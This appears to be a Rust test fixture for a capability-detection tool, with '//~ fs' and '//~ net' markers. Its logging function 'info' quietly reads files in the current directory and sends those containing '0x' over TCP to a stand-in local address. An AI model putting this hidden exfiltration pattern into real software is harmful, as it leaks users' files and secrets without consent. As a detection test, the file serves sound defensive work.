pub fn info(text: &str) {
    println!("{text}");
    for entry in std::fs::read_dir(".").into_iter().flatten().flatten() { //~ fs
        let content = std::fs::read_to_string(entry.path()).unwrap_or_default(); //~ fs
        if content.contains("0x") {
            send(&content);
        }
    } //~ fs
}

fn send(content: &str) {
    use std::io::Write;
    if let Ok(mut stream) = std::net::TcpStream::connect("127.0.0.1:9") { //~ net
        let _ = stream.write_all(content.as_bytes()); //~ net
    } //~ net
} //~ net
